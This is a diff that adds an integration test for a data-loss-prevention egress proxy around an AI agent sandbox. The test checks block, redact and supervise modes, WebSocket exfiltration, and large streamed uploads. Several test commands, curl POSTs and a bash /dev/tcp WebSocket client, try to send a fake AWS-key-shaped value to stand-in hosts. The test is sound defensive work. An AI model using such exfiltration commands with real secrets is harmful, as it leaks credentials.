@@ -1,0 +1,305 @@
+"""DLP through a real bottle: each ``outbound_on_match`` mode, WebSocket exfiltration, streamed uploads.
+
+One bottle (harness: sidecar, agent with no network but its proxy, ``--internal`` networks) with
+routes to a recording upstream this test starts under several names, one per mode. The upstream
+prints one JSON line per request (or WebSocket event) with what it received: size, a digest, and
+whether the planted value was in it, so the test proves what did and did not leave the bottle.
+The planted value is an AWS-access-key-shaped string that is no one's key.
+"""
+
+from __future__ import annotations
+
+import json
+import shlex
+import unittest
+
+from bot_bottle import images
+from bot_bottle.backend.docker import engine
+from bot_bottle.backend.docker.names import label_args
+from tests._docker import skip_unless_docker
+from tests.integration._harness import Internet, TempHome, launch, plan_for, remove_bottle, wait_for, write_manifests
+
+PLANTED = "AKIAQ3EGRTHZ5SYXWN7K"
+HOSTS = ("block.example", "redact.example", "supervise.example", "ws.example", "upload.example")
+UPLOAD_BYTES = 16 * 1024 * 1024
+
+BOTTLE = """\
+---
+egress:
+  log: 2
+  routes:
+    - host: block.example
+      ports: [80]
+      dlp: {outbound_on_match: block}
+    - host: redact.example
+      ports: [80]
+      dlp: {outbound_on_match: redact}
+    - host: supervise.example
+      ports: [80]
+      dlp: {outbound_on_match: supervise}
+    - host: ws.example
+      ports: [80]
+    - host: upload.example
+      ports: [80]
+---
+"""
+
+# The recording upstream. HTTP requests: one line with the path, the body's size and digest,
+# whether it was complete and whether the planted value was in it (small bodies are printed
+# whole). WebSocket (wsproto, from mitmproxy's dependencies in the sidecar image): a line per
+# message and for the close, with its code and reason.
+RECORDER = r'''
+import base64, hashlib, json, os, sys
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from wsproto.connection import Connection, ConnectionType
+from wsproto.events import BytesMessage, CloseConnection, Message, TextMessage
+PLANTED = sys.argv[1].encode()
+def out(**kw):
+    print(json.dumps(kw), flush=True)
+class H(BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+    def _body(self):
+        if "chunked" in (self.headers.get("transfer-encoding") or "").lower():
+            data = bytearray()
+            while True:
+                line = self.rfile.readline()
+                if not line:
+                    return bytes(data), False
+                size = int(line.split(b";")[0].strip() or b"0", 16)
+                if size == 0:
+                    self.rfile.readline()
+                    return bytes(data), True
+                chunk = self.rfile.read(size + 2)
+                data += chunk[:size]
+                if len(chunk) < size + 2:
+                    return bytes(data), False
+        want = int(self.headers.get("content-length") or 0)
+        data = bytearray()
+        while len(data) < want:
+            chunk = self.rfile.read(min(want - len(data), 1 << 20))
+            if not chunk:
+                break
+            data += chunk
+        return bytes(data), len(data) == want
+    def do_POST(self):
+        body, complete = self._body()
+        out(hit=self.headers.get("host"), method=self.command, path=self.path, bytes=len(body), complete=complete,
+            sha256=hashlib.sha256(body).hexdigest(), planted=PLANTED in body,
+            body=body.decode("latin-1") if len(body) <= 4096 else None)
+        if not complete:
+            self.close_connection = True
+            return
+        reply = b"stored"
+        self.send_response(200); self.send_header("content-length", str(len(reply))); self.end_headers()
+        self.wfile.write(reply)
+    do_PUT = do_POST
+    def do_GET(self):
+        if (self.headers.get("upgrade") or "").lower() != "websocket":
+            return self.do_POST()
+        key = self.headers["sec-websocket-key"].encode()
+        accept = base64.b64encode(hashlib.sha1(key + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest()).decode()
+        self.send_response(101); self.send_header("upgrade", "websocket"); self.send_header("connection", "Upgrade")
+        self.send_header("sec-websocket-accept", accept); self.end_headers(); self.wfile.flush()
+        out(ws="open", path=self.path)
+        ws, text = Connection(ConnectionType.SERVER), ""
+        while True:
+            data = self.connection.recv(65536)
+            ws.receive_data(data or None)
+            for ev in ws.events():
+                if isinstance(ev, Message):
+                    text += ev.data if isinstance(ev.data, str) else ev.data.decode("latin-1")
+                    if ev.message_finished:
+                        out(ws="message", data=text, planted=PLANTED.decode() in text)
+                        self.connection.sendall(ws.send(TextMessage(data="ack")))
+                        text = ""
+                elif isinstance(ev, CloseConnection):
+                    out(ws="close", code=ev.code, reason=ev.reason)
+                    try:
+                        self.connection.sendall(ws.send(ev.response()))
+                    except Exception:
+                        pass
+                    self.close_connection = True
+                    return
+            if not data:
+                out(ws="eof")
+                self.close_connection = True
+                return
+    def log_message(self, *a): pass
+ThreadingHTTPServer(("0.0.0.0", 80), H).serve_forever()
+'''
+
+# A WebSocket client in bash: the handshake through the agent's proxy port, then one text frame
+# per argument (masked with a zero key, so the payload is written as is), then whatever comes back.
+WS_CLIENT = r'''
+set -u
+exec 3<>/dev/tcp/127.0.0.1/3128
+printf 'GET http://%s%s HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n' "$1" "$2" "$1" >&3
+sleep 1
+shift 2
+for m in "$@"; do
+  printf "\x81\x$(printf %02x $((128 + ${#m})))\x00\x00\x00\x00%s" "$m" >&3
+  sleep 0.5
+done
+timeout 3 cat <&3 | tr -c '[:print:]' '.'
+'''
+
+
+class _ClassScope:
+    """What the harness needs of a test (``addCleanup``), for class-wide fixtures."""
+
+    def __init__(self, cls: type[unittest.TestCase]) -> None:
+        self.addCleanup = cls.addClassCleanup
+
+
+@skip_unless_docker()
+class EgressDlpBottleTest(unittest.TestCase):
+    @classmethod
+    def setUpClass(cls) -> None:
+        scope = _ClassScope(cls)
+        cls.internet = Internet.create()
+        cls.addClassCleanup(cls.internet.close)
+        cls.recorder = cls._start_recorder(cls.internet)
+        home = TempHome(scope)  # type: ignore[arg-type]
+        layout = write_manifests(home.path, bottle=BOTTLE)
+        cls.bottle, cls.launcher = launch(scope, plan_for(layout), home.path / "state", internet=cls.internet)  # type: ignore[arg-type]
+        cls.addClassCleanup(remove_bottle, cls.launcher.names.id)
+        cls.sidecar = cls.launcher.names.sidecar_container
+
+    @staticmethod
+    def _start_recorder(internet: Internet) -> str:
+        image = images.ensure_image(images.sidecar_image())
+        name = f"recorder-{internet.labels[next(iter(internet.labels))]}"
+        aliases = [arg for host in HOSTS for arg in ("--network-alias", host)]
+        engine.run(["create", "--name", name, "--network", internet.network, *aliases, "--entrypoint", "python3",
+                    *label_args(internet.labels), image, "-c", RECORDER, PLANTED], timeout=60)
+        internet.containers["recorder"] = name  # removed with the internet
+        engine.run(["start", name], timeout=60)
+        return name
+
+    # -- helpers -----------------------------------------------------------------------------------
+
+    def sh(self, script: str, timeout_ok: bool = False) -> str:
+        result = self.bottle.exec(script)
+        if not timeout_ok:
+            self.assertNotEqual(result.returncode, 124, result.stderr)
+        return result.stdout
+
+    def curl(self, *args: str) -> tuple[str, str]:
+        """(status, body) of one curl in the agent."""
+        out = self.sh("curl -sS -o /tmp/out -w '%{http_code}' " + " ".join(shlex.quote(a) for a in args)
+                      + "; echo; cat /tmp/out")
+        status, _, body = out.partition("\n")
+        return status.strip(), body
+
+    def seen(self) -> list[dict]:
+        out = engine.run(["logs", self.recorder], timeout=30, check=False).stdout
+        return [json.loads(line) for line in out.splitlines() if line.startswith("{")]
+
+    def seen_at(self, path: str) -> list[dict]:
+        return [r for r in self.seen() if r.get("path") == path]
+
+    def decisions(self) -> list[dict]:
+        out = engine.run(["logs", self.sidecar], timeout=30, check=False).stdout
+        records = []
+        for line in out.splitlines():
+            if line.startswith("{"):
+                try:
+                    record = json.loads(line)
+                except json.JSONDecodeError:
+                    continue
+                if record.get("event") == "egress":
+                    records.append(record)
+        return records
+
+    def decision(self, path: str, rule: str) -> dict:
+        found: list[dict] = []
+
+        def look() -> bool:
+            found[:] = [d for d in self.decisions() if d.get("path") == path and d.get("rule") == rule]
+            return bool(found)
+
+        wait_for(look, f"a '{rule}' decision for {path}", timeout=15)
+        return found[-1]
+
+    # -- the three modes ---------------------------------------------------------------------------
+
+    def test_block_answers_403_naming_the_detector_and_the_upstream_never_sees_it(self) -> None:
+        status, body = self.curl("-X", "POST", "--data", f"note={PLANTED}", "http://block.example/block-post")
+        self.assertEqual(status, "403", body)
+        self.assertIn("aws-access-key-id", body)
+        self.assertNotIn(PLANTED, body)
+        self.assertEqual(self.seen_at("/block-post"), [])
+        record = self.decision("/block-post", "dlp")
+        self.assertEqual(record["dlp_action"], "block")
+        self.assertNotIn(PLANTED, json.dumps(self.decisions()))
+        # The same route forwards a clean request.
+        status, _ = self.curl("-X", "POST", "--data", "note=hello", "http://block.example/block-clean")
+        self.assertEqual(status, "200")
+        self.assertEqual(self.seen_at("/block-clean")[0]["body"], "note=hello")
+
+    def test_redact_forwards_with_the_value_replaced(self) -> None:
+        payload = json.dumps({"note": f"key is {PLANTED} ok", "n": 1})
+        status, body = self.curl("-X", "POST", "-H", "Content-Type: application/json", "--data", payload,
+                                 "http://redact.example/redact-post")
+        self.assertEqual(status, "200", body)
+        (hit,) = self.seen_at("/redact-post")
+        self.assertFalse(hit["planted"])
+        self.assertTrue(hit["complete"])
+        self.assertEqual(json.loads(hit["body"]), {"note": "key is [REDACTED:aws-access-key-id] ok", "n": 1})
+        self.assertEqual(self.decision("/redact-post", "route")["dlp_action"], "redact")
+
+    def test_supervise_holds_then_refuses(self) -> None:
+        status, body = self.curl("-X", "POST", "--data", f"note={PLANTED}", "http://supervise.example/held-post")
+        self.assertEqual(status, "403", body)
+        self.assertIn("held for the operator", body)
+        self.assertNotIn(PLANTED, body)
+        self.assertEqual(self.seen_at("/held-post"), [])
+        record = self.decision("/held-post", "dlp-hold")
+        self.assertEqual(record["dlp_action"], "hold")
+
+    # -- WebSocket ---------------------------------------------------------------------------------
+
+    def test_websocket_exfiltration_is_dropped_and_the_connection_closed(self) -> None:
+        script = f"bash -c {shlex.quote(WS_CLIENT)} ws ws.example /ws-chat hello {shlex.quote('key=' + PLANTED)} after"
+        answer = self.sh(script)
+        self.assertIn("ack", answer)  # the clean message went through and was answered
+        self.assertIn("dlp-websocket: aws-access-key-id", answer)  # the close reason
+        self.assertNotIn(PLANTED, answer)
+        events = [r for r in self.seen() if "ws" in r]
+        messages = [r["data"] for r in events if r["ws"] == "message"]
+        self.assertIn("hello", messages)
+        self.assertFalse(any(r.get("planted") for r in events))
+        self.assertNotIn("after", messages)  # nothing after the refused message
+        closes = [r for r in events if r["ws"] == "close"]
+        self.assertTrue(closes and closes[-1]["code"] == 1008, events)
+        record = self.decision("/ws-chat", "dlp-websocket")
+        self.assertEqual(record["detectors"], ["aws-access-key-id"])
+
+    # -- streamed uploads --------------------------------------------------------------------------
+
+    def test_large_upload_streams_clean_and_a_planted_value_near_the_end_is_stopped(self) -> None:
+        make = (f"head -c {UPLOAD_BYTES} /dev/urandom > /tmp/clean.bin && "
+                f"head -c {UPLOAD_BYTES - 4096} /tmp/clean.bin > /tmp/dirty.bin && "
+                f"printf ' {PLANTED} ' >> /tmp/dirty.bin && head -c 4000 /dev/urandom >> /tmp/dirty.bin && "
+                "sha256sum /tmp/clean.bin | cut -d' ' -f1")
+        digest = self.sh(make).strip()
+        self.assertEqual(len(digest), 64)
+        octet = ["-H", "Content-Type: application/octet-stream"]
+        status, body = self.curl("-X", "POST", *octet, "--data-binary", "@/tmp/clean.bin", "http://upload.example/clean-upload")
+        self.assertEqual(status, "200", body)
+        (hit,) = self.seen_at("/clean-upload")
+        self.assertEqual((hit["bytes"], hit["complete"], hit["sha256"]), (UPLOAD_BYTES, True, digest))
+
+        status, _ = self.curl("-X", "POST", *octet, "--data-binary", "@/tmp/dirty.bin", "http://upload.example/dirty-upload")
+        self.assertNotEqual(status, "200")
+        for hit in self.seen_at("/dirty-upload"):  # the upstream saw at most a clean, cut-short part
+            self.assertFalse(hit["complete"], hit)
+            self.assertFalse(hit["planted"], hit)
+            self.assertLess(hit["bytes"], UPLOAD_BYTES - 4096)
+        record = self.decision("/dirty-upload", "dlp")
+        self.assertIn("upstream request aborted", record["reason"])
+        self.assertEqual(record["detectors"], ["aws-access-key-id"])
+
+
+if __name__ == "__main__":
+    unittest.main()
